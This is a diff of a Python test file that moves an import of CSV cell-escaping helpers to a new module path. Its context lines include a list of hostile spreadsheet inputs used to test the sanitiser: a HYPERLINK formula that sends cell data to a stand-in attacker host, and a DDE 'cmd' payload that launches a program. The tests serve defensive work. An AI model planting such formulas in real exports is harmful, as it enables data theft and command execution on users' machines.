@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 from pathlib import Path
 
-from cs_handouts.csvcells import csv_text, safe_cell
+from cs_handouts.text.csvcells import csv_text, safe_cell
 from tests.conftest import run_cli
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
